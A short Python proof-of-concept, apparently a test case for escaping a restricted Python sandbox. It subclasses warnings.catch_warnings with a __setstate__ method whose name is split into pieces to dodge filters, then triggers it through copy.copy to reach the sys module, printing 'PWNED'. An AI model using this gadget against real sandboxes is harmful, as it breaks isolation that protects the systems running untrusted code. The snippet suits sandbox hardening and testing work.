import copy
import warnings


def setstate(self, state):
    print("PWNED", state["_module"].sys)


Plain = type("Plain", (warnings.catch_warnings,), {"__set" + "state__": setstate})
copy.copy(Plain())
